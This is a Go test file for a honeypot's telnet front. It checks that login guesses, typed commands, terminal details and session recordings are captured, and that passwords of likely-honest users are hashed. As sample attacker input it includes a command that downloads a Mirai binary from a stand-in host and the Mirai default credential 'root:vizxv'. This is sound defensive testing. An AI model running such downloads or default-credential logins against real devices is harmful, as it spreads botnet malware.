package telnet_test

import (
	"bytes"
	"context"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot/front"
	"github.com/kokkuri/kokkuri/internal/honeypot/front/fronttest"
	"github.com/kokkuri/kokkuri/internal/honeypot/front/telnet"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// login stands for login(1), which needs an account of this machine; the real one is asked in the tests of pots. It lets in by the pair
// in a file.
const login = `#!/bin/sh
while :; do
	printf 'web login: '; IFS= read -r account || exit 1
	stty -echo; printf 'Password: '; IFS= read -r password || exit 1; stty echo; printf '\n'
	if [ "$account $password" = "$(cat "PAIR")" ]; then break; fi
	printf '\nLogin incorrect\n'
done
printf 'Linux web 6.1.0\nLast login: Fri\n$ '
while IFS= read -r line; do
	[ "$line" = exit ] && exit 0
	printf 'ran <%s>\n$ ' "$line"
done
`

// server is a real telnetd, each connection a process, with the file of the pair.
func server(t testing.TB) (address, pair string) {
	t.Helper()
	dir := t.TempDir()
	pair = filepath.Join(dir, "pair")
	require.NoError(t, os.WriteFile(pair, []byte("nobody in"), 0o600))
	script := filepath.Join(dir, "login")
	require.NoError(t, os.WriteFile(script, []byte(strings.ReplaceAll(login, "PAIR", pair)), 0o755))
	var lc net.ListenConfig
	l, err := lc.Listen(t.Context(), "tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	var all sync.WaitGroup
	all.Go(func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			all.Go(func() {
				f, err := conn.(*net.TCPConn).File() //nolint:forcetypeassert // it listens by TCP
				_ = conn.Close()
				if err != nil {
					t.Error(err)
					return
				}
				cmd := exec.Command("telnetd", "--no-hostinfo", "--exec-login="+script)
				cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
				_ = cmd.Run()
				_ = f.Close()
			})
		}
	})
	t.Cleanup(func() {
		_ = l.Close()
		all.Wait()
	})
	return l.Addr().String(), pair
}

// open starts a front before such a server, whose pair it sets for who is let in.
func open(t testing.TB, options ...fronttest.Option) (s *fronttest.Site, pair string) {
	t.Helper()
	address, pair := server(t)
	return fronttest.New(t, event.Telnet, telnet.New(front.Guard{
		Reach: front.Reach{Enter: func(context.Context, event.PotKey) (front.Stay, error) {
			return fronttest.Stay{ID: "pot", Address: address}, nil
		}},
		Policy: fronttest.Policy(t, event.Telnet), Hash: fronttest.Hash,
		Admit: func(_ front.Stay, account, password string) error {
			return os.WriteFile(pair, []byte(account+" "+password), 0o600)
		},
	}), options...), pair
}

// person types at a terminal.
type person struct {
	t    *testing.T
	conn net.Conn
	kind string // of the terminal; empty where the person's program tells nothing
	raw  []byte // commands that have not come whole
	seen []byte
}

func sit(t *testing.T, s *fronttest.Site) *person {
	t.Helper()
	return &person{t: t, conn: s.Dial(t)}
}

// sees waits until something is printed, and forgets what came before.
func (p *person) sees(text string) {
	p.t.Helper()
	buf := make([]byte, 4096)
	for !bytes.Contains(p.seen, []byte(text)) {
		require.NoError(p.t, p.conn.SetReadDeadline(time.Now().Add(20*time.Second)))
		n, err := p.conn.Read(buf)
		require.NoError(p.t, err, "%q is waited for after %q", text, p.seen)
		p.raw = append(p.raw, buf[:n]...)
		p.negotiates()
	}
	p.seen = p.seen[bytes.Index(p.seen, []byte(text))+len(text):]
}

// negotiates answers what the server's program wants, as every client's does, and leaves what is printed.
func (p *person) negotiates() {
	const terminal, window = 24, 31
	for len(p.raw) > 0 {
		if p.raw[0] != 0xff {
			p.seen, p.raw = append(p.seen, p.raw[0]), p.raw[1:]
			continue
		}
		switch {
		case len(p.raw) < 3:
			return
		case p.raw[1] == 0xfa: // SB: it asks for the kind of the terminal
			end := bytes.Index(p.raw, []byte("\xff\xf0"))
			if end < 0 {
				return
			}
			p.types("\xff\xfa\x18\x00" + p.kind + "\xff\xf0")
			p.raw = p.raw[end+2:]
			continue
		case p.raw[1] == 0xfd && p.kind != "" && p.raw[2] == terminal: // DO
			p.types("\xff\xfb\x18")
		case p.raw[1] == 0xfd && p.kind != "" && p.raw[2] == window:
			p.types("\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0")
		case p.raw[1] == 0xfd:
			p.types("\xff\xfc" + string(p.raw[2:3]))
		case p.raw[1] == 0xfb: // WILL
			p.types("\xff\xfd" + string(p.raw[2:3]))
		}
		p.raw = p.raw[3:]
	}
}

func (p *person) types(text string) {
	p.t.Helper()
	_, err := io.WriteString(p.conn, text)
	require.NoError(p.t, err)
}

func (p *person) logsIn(account, password string) {
	p.t.Helper()
	p.sees("web login: ")
	p.types(account + "\r\x00")
	p.sees("Password: ")
	p.types(password + "\r\x00")
}

// told are the guesses and lines of a session.
func told(s fronttest.Session) (out []string) {
	for _, e := range s.Evidence {
		switch {
		case e.Login != nil:
			out = append(out, string(e.Login.Account)+":"+string(e.Login.Password)+e.Login.Hash+map[bool]string{true: " in", false: " refused"}[e.Login.Success])
		case e.Input != "":
			out = append(out, "typed "+string(e.Input))
		case e.Start != nil:
			out = append(out, "started "+string(e.Start.Term))
		case e.Variable != nil:
			out = append(out, string(e.Variable.Name)+"="+string(e.Variable.Value))
		}
	}
	return out
}

func TestWhoGetsIn(t *testing.T) {
	s, pair := open(t)
	p := sit(t, s)
	for range 3 { // a client whose password is stale gets in never
		p.logsIn("root", "stale")
		p.sees("Login incorrect")
	}
	p.logsIn("root", "stalex\x7f") // typed wrong, and corrected
	p.sees("Login incorrect")
	p.logsIn("root", "right")
	p.sees("$ ")
	p.types("wget http://192.0.2.80/m\x7fmirai.arm7\r\x00")
	p.sees("ran <wget http://192.0.2.80/mirai.arm7>")
	p.types("exit\r\n")
	_, _ = io.Copy(io.Discard, p.conn)
	require.NoError(t, p.conn.Close())
	session := s.Ended(t, 1)[0]
	assert.Equal(t, []string{
		"root:stale refused", "root:stale refused", "root:stale refused", "root:stale refused", "root:right in", "started unknown",
		"typed wget http://192.0.2.80/mirai.arm7", "typed exit",
	}, told(session))
	data, err := os.ReadFile(session.Recording)
	require.NoError(t, err)
	assert.True(t, bytes.Contains(data, []byte("ran <wget")), "what was printed is recorded")

	// Inside, the password is changed: who knows the new one gets in.
	require.NoError(t, os.WriteFile(pair, []byte("root changed"), 0o600))
	p = sit(t, s)
	p.logsIn("root", "right")
	p.sees("Login incorrect")
	p.logsIn("root", "changed")
	p.sees("$ ")
}

// A bot says everything at once: its password is none the less decided on.
func TestTypedAhead(t *testing.T) {
	s, pair := open(t)
	require.NoError(t, os.WriteFile(pair, []byte("admin admin"), 0o600)) // which the image would let in
	p := sit(t, s)
	p.types("admin\r\nadmin\r\n")
	p.sees("Login incorrect")
	p.sees("web login: ")
	p.types("root\r\nvizxv\r\nenable\r\nsh\r\n")
	p.sees("ran <enable>")
	p.sees("ran <sh>")
	require.NoError(t, p.conn.Close())
	assert.Equal(t, []string{"admin:admin refused", "root:vizxv in", "started unknown", "typed enable", "typed sh"}, told(s.Ended(t, 1)[0]))
}

// A terminal that tells of itself.
func TestTerminal(t *testing.T) {
	s, _ := open(t)
	p := sit(t, s)
	p.kind = "XTERM-256COLOR"
	p.logsIn("root", "wrong")
	p.logsIn("root", "right")
	p.sees("$ ")
	p.types("\xff\xfa\x1f\x00\x64\x00\x1e\xff\xf0")
	p.types("id\r\n")
	p.sees("ran <id>")
	require.NoError(t, p.conn.Close())
	session := s.Ended(t, 1)[0]
	var start *event.Start
	var size *event.Size
	for _, e := range session.Evidence {
		if e.Start != nil {
			start = e.Start
		}
		if e.Size != nil {
			size = e.Size
		}
	}
	assert.Equal(t, &event.Start{What: "shell", Term: "xterm-256color", Width: 80, Height: 24}, start)
	assert.Equal(t, &event.Size{Width: 100, Height: 30}, size)
}

// Of people who may be honest no password is kept.
func TestPasswordsOfTheHonest(t *testing.T) {
	s, _ := open(t, fronttest.Known)
	p := sit(t, s)
	p.logsIn("me", "do-not-keep-me")
	p.sees("Login incorrect")
	p.sees("web login: ")
	p.types("me\r\nnor-me-do-not-keep-me\r\n") // ahead of its prompt
	p.sees("$ ")
	require.NoError(t, p.conn.Close())
	session := s.Ended(t, 1)[0]
	assert.Equal(t, "me:"+fronttest.Hashed+" refused", told(session)[0])
	data, err := os.ReadFile(session.Recording)
	require.NoError(t, err)
	assert.False(t, bytes.Contains(data, []byte("do-not-keep-me")))
}

func TestRealClient(t *testing.T) {
	s, _ := open(t)
	host, port, err := net.SplitHostPort(s.Address)
	require.NoError(t, err)
	cmd := exec.CommandContext(t.Context(), "telnet", "-8", host, port)
	in, err := cmd.StdinPipe()
	require.NoError(t, err)
	out, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	var seen []byte
	buf := make([]byte, 4096)
	sees := func(text string) {
		t.Helper()
		for !bytes.Contains(seen, []byte(text)) {
			n, err := out.Read(buf)
			require.NoError(t, err, "%q", seen)
			seen = append(seen, buf[:n]...)
		}
		seen = seen[bytes.Index(seen, []byte(text))+len(text):]
	}
	for _, step := range [][2]string{{"web login: ", "root"}, {"Password: ", "wrong"}, {"web login: ", "root"}, {"Password: ", "right"}, {"$ ", "uname -a"}, {"ran <uname -a>", "exit"}} {
		sees(step[0])
		_, err = io.WriteString(in, step[1]+"\n")
		require.NoError(t, err)
	}
	_, _ = io.Copy(io.Discard, out)
	_ = cmd.Wait()
	got := told(s.Ended(t, 1)[0])
	assert.Contains(t, strings.Join(got, "\n"), "root:wrong refused\nroot:right in\nstarted ")
	assert.Contains(t, got, "typed uname -a")
}

func TestTenThousandGarbageConnections(t *testing.T) {
	stay := fronttest.Pot(t, func(c net.Conn) {
		_, _ = io.WriteString(c, "web login: ")
		_, _ = io.Copy(c, c) // whatever it is
	})
	s := fronttest.New(t, event.Telnet, telnet.New(front.Guard{
		Reach:  front.Reach{Enter: func(context.Context, event.PotKey) (front.Stay, error) { return stay, nil }},
		Policy: fronttest.Policy(t, event.Telnet), Hash: fronttest.Hash, Admit: func(front.Stay, string, string) error { return nil },
	}))
	fronttest.Garbage(t, s, "\xff\xfa\x27\x00", "root\r\n123456\r\n", "\xff\xff\xff\xff", "\xff\xfa\x1f\x00", "\x00", "GET / HTTP/1.1\r\n\r\n")
}
